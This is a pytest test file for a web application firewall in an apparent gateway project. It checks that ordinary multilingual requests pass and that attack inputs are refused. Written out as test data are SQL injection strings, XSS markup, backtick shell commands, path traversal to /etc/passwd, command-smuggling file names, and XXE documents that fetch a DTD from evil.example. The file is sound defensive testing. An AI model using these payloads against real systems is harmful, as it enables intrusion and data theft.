"""The rules of the WAF refuse attacks and let ordinary requests pass."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator, Sequence
from functools import cache
from pathlib import Path
from urllib.parse import quote, quote_plus, urlencode

import pytest

from fastgw.filters.policies.waf.inspection import Inspector, Match, score_of
from fastgw.filters.policies.waf.normalization import normalized
from fastgw.filters.policies.waf.rules import DEFAULT_RULES
from fastgw.http.http1.parser import parse_request
from fastgw.http.malformed import Malformed
from tests.support.table import for_each
from tests.support.waf import HARMLESS, Case, form, get, in_json, regression_cases

GUIDE = Path(__file__).parents[4] / "docs/guides/waf.md"
CLASSES = {
    913: "Scanners",
    921: "Protocol attacks",
    922: "Multipart",
    930: "Local files",
    931: "Remote files",
    932: "Commands",
    933: "PHP",
    934: "JavaScript",
    941: "Cross-site scripting",
    942: "SQL injection",
    943: "Session fixation",
    944: "Java",
}


@cache
def inspector(paranoia: int = 1) -> Inspector:
    return Inspector([rule for rule in DEFAULT_RULES if rule.paranoia <= paranoia], (), 200)


def matches(request: bytes, paranoia: int = 1) -> list[Match]:
    head = parse_request(request[: request.index(b"\r\n\r\n") + 4])
    body = request.partition(b"\r\n\r\n")[2]
    found = inspector(paranoia).inspect_head(head)
    return found + inspector(paranoia).inspect_body(head, body[:16384]) if body else found


def is_refused(case: Case) -> bool:
    """Whether a request is refused: by rules, or as one that is no valid HTTP."""
    try:
        return score_of(matches(case.request)) >= 5
    except Malformed:
        return True


def rates() -> str:
    """The table of the guide: attacks of level 1, and how many of them are refused at paranoia 1."""
    attacks = [case for case in regression_cases() if case.attack and case.level == 1]
    lines, total = [], [0, 0, 0]
    for number, name in CLASSES.items():
        cases = [case for case in attacks if case.rule // 1000 == number]
        row = [len(cases), sum(map(is_refused, cases)), sum(case.crs for case in cases)]
        total = [before + here for before, here in zip(total, row, strict=True)]
        lines.append(f"| {name} ({number}) | {row[0]} | {row[1]} | {row[2]} |\n")
    return "".join([*lines, f"| All | {total[0]} | {total[1]} | {total[2]} |\n"])


def test_the_guide_says_how_many_attacks_are_refused() -> None:
    """A rule that refuses fewer attacks, or more, changes the guide."""
    assert rates() in GUIDE.read_text(), f"expected in the guide:\n{rates()}"


@for_each("number", range(len(HARMLESS)))
def test_ordinary_requests_pass(number: int) -> None:
    """Not a single rule matches them at level 1, not even one below the threshold."""
    assert matches(HARMLESS[number]) == []


def test_the_guide_says_how_many_ordinary_requests_there_are() -> None:
    assert f"All of {len(HARMLESS)} ordinary requests pass" in GUIDE.read_text()


LETTERS = {
    "Chinese": ((0x4E00, 0x9FA5),),
    "Japanese": ((0x3041, 0x3096), (0x30A1, 0x30FC), (0x4E00, 0x8FFF)),
    "Korean": ((0xAC00, 0xD7A3),),
    "Cyrillic": ((0x400, 0x45F),),
    "Greek": ((0x388, 0x38A), (0x391, 0x3A1), (0x3A3, 0x3CE)),
    "Thai": ((0xE01, 0xE3A), (0xE40, 0xE4E)),
    "Arabic": ((0x621, 0x64A),),
    "Latin": ((0x61, 0x7A), (0xC0, 0x17F)),
    "symbols": ((0x1F300, 0x1F64F),),
}


def names_in(script: str) -> Sequence[str]:
    """Return 1,000 names: one to three words of two to six random letters."""
    rng = random.Random(script)

    def word() -> str:
        return "".join(chr(rng.randint(*rng.choice(LETTERS[script]))) for _ in range(rng.randint(2, 6)))

    return [" ".join(word() for _ in range(rng.randint(1, 3))) for _ in range(1000)]


def _part(disposition: str, content: str) -> str:
    return f"--b\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{content}\r\n"


def multipart(body: str) -> bytes:
    head = "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=b\r\n"
    content = f"{body}--b--\r\n".encode()
    return f"{head}Content-Length: {len(content)}\r\n\r\n".encode() + content


def requests_with(names: Sequence[str]) -> Iterator[bytes]:
    for first in range(0, len(names), 50):
        some = names[first : first + 50]
        yield get("/people?" + urlencode([("name", each) for each in some]))
        yield get("/people/" + "/".join(quote(each) for each in some))
        yield get("/", "Cookie: " + "; ".join(f"n{number}={quote(each)}" for number, each in enumerate(some)))
        yield form(urlencode([("name", each) for each in some]))
        yield in_json(some)
        ascii_only = json.dumps(some).encode()
        head = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
        yield head + b"Content-Length: %d\r\n\r\n%b" % (len(ascii_only), ascii_only)
        yield multipart("".join(_part('name="a"', each) for each in some))
        yield multipart("".join(_part(f'name="a"; filename="{each}.png"', "x") for each in some))


@pytest.mark.parametrize("script", LETTERS)
def test_names_in_any_script_pass(script: str) -> None:
    """The bytes 85, A0, BC and BE are spaces and signs in Latin-1, but the ends of characters in UTF-8."""
    for request in requests_with(names_in(script)):
        assert matches(request) == [], request.decode(errors="replace")[:2000]


@pytest.mark.parametrize(
    "text",
    [
        "\u30fcscript \u30be",  # the last bytes are BC and BE
        "\u00fcscript \u00be",
        "\U0001f4bcscript \U0001f4be",
        "1\u00bc cups of flour, 2\u00be of water",
        "sizes \u00bc/\u00bd/\u00be",
        "1\u00bc body lengths, 2\u00be hours",
        "\u0445or 1 \u0445or 2",  # in Latin-1, a space before `or`
    ],
)
def test_characters_with_these_bytes_pass(text: str) -> None:
    for request in requests_with([text]):
        assert matches(request) == []


@for_each("before", [b"", b"a", b"\xe9", b"\xc3\xa9", b"\xe6\x97\xa5", b"\xf0\x9f\x98\x80", b"\xbc", b"\xbe", b"\xff"])
@for_each(("opens", "closes"), [(b"\xbc", b"\xbe"), (b"\xc2\xbc", b"\xc2\xbe")])
@for_each("element", [b"script", b"iframe src=x", b"/b", b"svg/x"])
def test_markup_for_readers_of_us_ascii_is_refused(before: bytes, opens: bytes, closes: bytes, element: bytes) -> None:
    """Such readers leave out the highest bit. No character before it hides it."""
    text = before + opens + element + closes
    for request in (get("/?a=" + quote_plus(text)), form("a=" + quote_plus(text))):
        assert 4110 in {match.rule.id for match in matches(request)}


@for_each("space", [b"\xa0", b"\x85", b"\xc2\xa0", b"\xc2\x85", b"\xa0\xa0", b"&nbsp;", b"\xc2\xa0\xa0 "])
@for_each("before", [b"1'", b"\xe6\x97\xa5'", b"\xe9'"])
def test_no_break_spaces_hide_nothing(space: bytes, before: bytes) -> None:
    text = before + space.join((b"", b"or", b"1=1")) + b" --"
    plain = before + b" or 1=1 --"
    expected = {match.rule.id for match in matches(get("/?a=" + quote_plus(plain)))}
    assert expected
    assert {match.rule.id for match in matches(get("/?a=" + quote_plus(text)))} == expected


def test_a_space_of_latin_1_is_one_behind_each_other_character() -> None:
    for before in (b"a", b"\xe9", b"\xc3\xa9", b"\xe6\x97\xa5", b"\xf0\x9f\x98\x80", b"\xa4", b"\x97\xa5"):
        assert normalized(before + b"\xa0or") == before + b" or", before
    for character in "\u00e0\u0445\u0420\u3045\u5800\U0001f145\U00010800":
        assert normalized(character.encode() + b"or") == character.encode() + b"or", character


@pytest.mark.parametrize(
    "command", ["id", "env ls", "sudo cat x", "exec /bin/sh", "timeout 5s wget x", "ls -la", "uname"]
)
def test_commands_in_backticks_are_refused(command: str) -> None:
    assert matches(get("/?a=" + quote_plus(f"x`{command}`"))) != []


@pytest.mark.parametrize("name", ["#1 of 3.jpg", "# Notes.txt", "-- draft.txt", "- 1.png", "a; .txt", "=x.jpg"])
def test_signs_at_the_beginning_of_a_file_name_pass(name: str) -> None:
    """The name is searched as the value of a parameter, not with a quotation mark before it."""
    assert matches(multipart(_part(f'name="a"; filename="{name}"', "x"))) == []
    assert matches(get("/", f"X-File-Name: {name}")) == []


@pytest.mark.parametrize(
    "name", ["a.php", "a.php.", "../../etc/passwd", "x' or '1'='1", "$(id).txt", "a;\ncat /etc/passwd"]
)
def test_attacks_in_file_names_are_refused(name: str) -> None:
    name = name.replace("\n", "%0A")
    assert matches(multipart(_part(f'name="a"; filename="{name}"', "x"))) != []


def _everywhere(text: str) -> tuple[bytes, ...]:
    """Return requests that have a text in their query, a form, a string of JSON, and a cookie."""
    quoted = quote(text)
    return get(f"/?id={quoted}"), form(f"id={quoted}"), in_json({"id": text}), get("/", f"Cookie: id={quoted}")


@for_each(
    "space",
    ["\n", "\r\n", " \n\t", "\r", "\x0b", "\x0c", "\u3000", "\u2003", "#x\n", "--x y\n", " # a\n-- b\n\n", "/*x*/"],
)
@for_each(
    "attack",
    [
        "1 union select 1,2,3",
        "-1 union all select null,null",
        "1 or 1=1",
        "1 and 1=1",
        "' or 1=1 --",
        "admin' --",
        "admin' -- x",
        "x y' -- -",
        "x y') --",
        "1; --",
        "1 order by 3 --",
        "1 having 1=1",
        "1 procedure analyse()",
        "1 into outfile '/x'",
        "1; drop table users",
        "1; delete from users",
        "1; waitfor delay '0:0:5'",
        "; set @a = 1",
        "insert into users values (1)",
        "update users set a=1",
        "create table x (a int)",
        "load data infile '/x'",
        "' = '",
        "new function ( 'x' )",
    ],
)
def test_no_other_white_space_and_no_comment_takes_the_place_of_a_space(attack: str, space: str) -> None:
    for request in _everywhere(attack.replace(" ", space)):
        assert score_of(matches(request)) >= 5, request


@pytest.mark.parametrize(
    "attack",
    [
        "1 union --/*\nselect password from users --*/",
        "1 union#/*\nselect password from users#*/",
        "-1 and '/*' union select password from users where '*/' is not null",
        "-1 and '/*' union/*x*/select/*y*/password from users where '*/' is not null",
        "1/*x*/and '/*' union/*y*/select password from users where '*/' is not null",
        "1 --/*\nunion/*x*/select/*y*/password from users",
        "1 #/*\nunion #*/\nall/*x*/select password from users",
    ],
)
def test_comments_in_strings_and_in_other_comments_hide_nothing(attack: str) -> None:
    """SQLite executes such statements with `--`, and MySQL those with `#`."""
    for request in _everywhere(attack):
        assert {match.rule.id for match in matches(request)} & {4204, 4210}, request


@pytest.mark.parametrize(
    "attack",
    [
        ";system//x\n('id');",
        "';alert//\n(1)//",
        "document//\n.cookie",
        "new//\nfunction//x\n('x')",
        "http://x\n;eval//\n('x')",
    ],
)
def test_line_comments_of_programs_hide_nothing(attack: str) -> None:
    for request in _everywhere(attack):
        assert score_of(matches(request)) >= 5, request


@for_each("space", ["\n", "\r\n", "\t", "\n" * 600])
@for_each(
    "document",
    [
        '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
        '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
        '<!DOCTYPE a PUBLIC "-//x" "file:///etc/x"><a/>',
    ],
)
def test_no_white_space_hides_a_document_type(document: str, space: str) -> None:
    body = document.replace(" ", space).encode()
    head = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n" % len(body)
    assert 3420 in {match.rule.id for match in matches(head + body)}


@for_each(
    "text",
    [
        "Use `a`\n- `b`: one\n- `c`: two\n* `d`\n+ `e`\n> `f`",
        'He said "no"\n-- \nAnn Smith\nExample Ltd',
        "See the list (below)\n# Second part\nText\n\n---\n(end)\n-----",
        ":root {\n  --black: #000;\n  --white: #fff;\n}",
        "Run this:\n```powershell\nnpm install\n```",
        "key: \"value\"\n# the next one is 'optional'\nother: 'x'\n#last: \"y\"",
        "Please select\none of the union\nmembers from\nthe list, or\n2 of them.",
        "one ` tick\n# a comment\nand the sort",
        "Call me at 555-1234\n-- \n",
        "Room 5\n--",
        "Total: 5\n#",
        'Hello "Bob"\n#',
        "Well, bye;\n# ",
        "Best regards, Ann (Sales)\n--",
        "See https://example.com/a\nfor 'all' of it // and more\nor https://example.com/b\n",
        "let a = b; // the first\n/* one of\n * several */\nlet c = d; // the last\n",
        "a { background: url(//example.com/x.png) }\n/* links */\na:hover { color: red }",
        "\u7532\u3000\u4e59\n\u200bselect\u3000\u9078\u629e",
    ],
)
def test_ordinary_lines_pass(text: str) -> None:
    for request in _everywhere(text):
        assert matches(request) == []


@for_each(
    "text",
    [
        "how do I delete from cart",
        "Why can't I delete from inbox;",
        "delete from favourites where nothing is left",
        "create table tennis",
        "how do I create database backup",
        "please alter table 5",
        "create procedure document as soon as possible",
        "insert into envelope (see picture)",
        "the union (all members) votes",
        "union select",
        'the "european" union',
        "select 2 of them",
        "select password",
        "Select all items from the list, order by price",
        "select two from group by the window",
        "select one from the customer's list",
        "select one plan over (or into) another",
        'my "free" limit is 3',
        'the "old" having been sold',
        '"John" and Mary like cake',
        '"Emma" and people like it and "Persuasion"',
        '"beauty" having fun (yes)',
        '"this" or that is good',
        "is it between 'red' and blue",
        "10 and 12 is fine",
        "would you like (2) cakes",
        'my "PC" shutdown doesn\'t work',
        "in case when it rains then we go",
        "see page (3) as map from here",
        "declare a table",
        "execute immediate order",
        "bulk insert of products",
        "merge accounts using (email)",
        "references page (5)",
        "grant access to users identified by badge",
        "dual sim",
        "dual",
        "the northwind blows",
    ],
)
def test_words_of_sql_alone_refuse_no_text(text: str) -> None:
    """They count for something beside other matches."""
    for request in _everywhere(text):
        assert score_of(matches(request)) < 5, request


@for_each(
    "attack",
    [
        "' or 1 like 1 --",
        "' or name is not null--",
        "' or name like name or '",
        "') or name like name or ('",
        "' or username like username -- ",
        "x' or name in (name) or 'x",
        "' or a between b and c or 'a",
        "' || user regexp user || '",
        "' or 1 between 0 and 2 --",
        "' or id in (select 1) --",
        "x' or full_name like '%bob%",
        "'); drop table users--",
        "' delete from users --",
        "' insert into users values(1,2)--",
        "'; exec master..xp_cmdshell 'ping'--",
        "'; shutdown --",
        "' union all select null,null--",
        "' union values (1,2)--",
        "1 union(select 1)",
        "1 union all(select 1)",
        "' having 1=1--",
        "' having count(*)>1--",
        "' having count(*)>1",
        "1 limit 1,1 into outfile '/tmp/x'",
        "1 and case when (1=1) then 1 else 0 end",
        "1 union select null from dual",
        "select a from b where c like '%x%'",
        "select null,null",
        "delete from users where id = 1",
        "insert into users (a) values (1)",
        "drop table if exists users",
        "create function f() returns int",
        "declare @x varchar(20)",
        "execute immediate 'select 1'",
        "merge into a using (select 1) b",
        "bulk insert x from 'c:\\x'",
        "select row_number() over (order by 1)",
    ],
)
def test_statements_are_refused(attack: str) -> None:
    for request in _everywhere(attack):
        assert score_of(matches(request)) >= 5, request
